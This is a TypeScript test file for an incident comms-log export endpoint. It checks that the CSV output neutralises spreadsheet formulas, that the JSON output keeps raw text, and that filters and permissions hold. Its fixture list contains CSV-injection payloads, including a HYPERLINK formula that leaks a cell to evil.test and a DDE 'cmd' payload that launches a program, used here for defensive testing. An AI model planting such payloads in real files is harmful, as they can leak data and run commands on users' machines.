import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, it } from "vitest";
import { type TestDb, testDb } from "../../tests/support/db";
import { readCsv } from "../../tests/support/read-csv";
import { CSV_HEADINGS, isFormula } from "../comms-log/rules";
import type { Context } from "../core/context";
import { openIncident } from "../incidents/open-incident";
import { publishMilestone } from "../milestones/publish-milestone";
import { createCommsExport } from "./comms-export";

/** What a hand might publish so that it runs where the file is opened; each is a message of the log. */
const BODIES = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\uff1d1+1",
  'Said "one, two"\nand three',
];
/** More than two pages of the export. */
const MORE = 1_100;

let t: TestDb;
let server: Server;
let ctx: Context;
beforeAll(async () => {
  t = await testDb();
  await openIncident({ ctx: t.ctx(), input: { title: "Checkout fails", severity: "Critical" } });
  const nextUpdateEta = new Date(t.ctx().now.getTime() + 900_000).toISOString();
  const input = { ref: "INC-1", title: "=1+1 checkouts fail", body: "We roll back.", nextUpdateEta };
  await publishMilestone({ ctx: t.ctx(), input: { ...input, audience: ["public"], publicTitle: "Checkout" } });
  // What input would have cleaned may be in a log that came from elsewhere.
  await t.asSuperuser((client) =>
    client.query(
      `insert into comms_log (incident_id, seq, id, milestone_id, channel, audience, subject, body, severity_at_send,
         recipient_count, published_by_name, published_at, prev_hash, hash)
       select l.incident_id, 1000 + n, 'copy' || lpad(n::text, 6, '0'), l.milestone_id, 'sms', 'executive',
         'Copy ' || n, coalesce(($1::text[])[n], 'Body ' || n), l.severity_at_send, 0, '=cmd()', l.published_at, 'x', 'y'
       from comms_log l, generate_series(1, $2) n where l.channel = 'status_page'`,
      [BODIES, MORE],
    ),
  );
  ctx = await t.asUser("comms");
  const serve = createCommsExport(async () => ctx);
  server = createServer((req, res) => void serve(req, res, new URL(req.url ?? "/", "http://x.test"), "request-1"));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

const get = (query: string) =>
  fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/api/comms/log/export?${query}`);

it("gives every message once, as CSV that no spreadsheet runs and as JSON with the texts as they are", async () => {
  const answer = await get("format=csv");
  expect(answer.headers.get("content-type")).toMatch(/^text\/csv/);
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="comms-log-\d{4}-\d\d-\d\d\.csv"$/);
  const [headings, ...rows] = readCsv(await answer.text());
  expect(headings).toEqual([...CSV_HEADINGS]);
  const column = (name: string) => rows.map((row) => row[CSV_HEADINGS.indexOf(name)] ?? "");
  expect(rows.every((row) => row.length === CSV_HEADINGS.length)).toBe(true);
  expect(rows.flat().filter(isFormula)).toEqual([]);
  expect(rows.flat().filter((cell) => /^[\s\p{C}]*[=+@\t\r\uff1d-]/u.test(cell) && !/^-?\d+$/.test(cell))).toEqual([]);
  expect(column("published_by")).toContain("'=cmd()");
  for (const body of BODIES) expect(column("text")).toContain(isFormula(body) ? `'${body}` : body);

  const entries = (await (await get("format=json")).json()) as { id: string; body: string; channel: string }[];
  const copies = entries.filter(({ channel }) => channel === "sms");
  expect(copies).toHaveLength(MORE);
  expect(new Set(entries.map(({ id }) => id)).size).toBe(rows.length);
  expect(copies.map(({ body }) => body)).toEqual(expect.arrayContaining(BODIES));
});

it("keeps to the filter, and refuses a wrong one, a wrong format and who may not read it before it begins", async () => {
  const filtered = (await (await get("channel=status_page,email&audience=public&ref=inc-1")).json()) as unknown[];
  expect(filtered).toMatchObject([{ channel: "status_page", subject: "=1+1 checkouts fail", ref: "INC-1" }]);
  const wrong = await get("channel=fax&from=yesterday");
  expect(wrong.status).toBe(422);
  expect(await wrong.json()).toMatchObject({
    code: "INVALID_INPUT",
    errors: { "channel.0": expect.stringContaining("status_page"), from: expect.stringContaining("2026-11-21") },
  });
  expect((await get("format=xml")).status).toBe(422);
  expect((await get("ref=INC-999")).status).toBe(404);
  ctx = await t.asUser("responder");
  const refused = await get("format=csv");
  expect([refused.status, refused.headers.get("content-disposition")]).toEqual([403, null]);
});
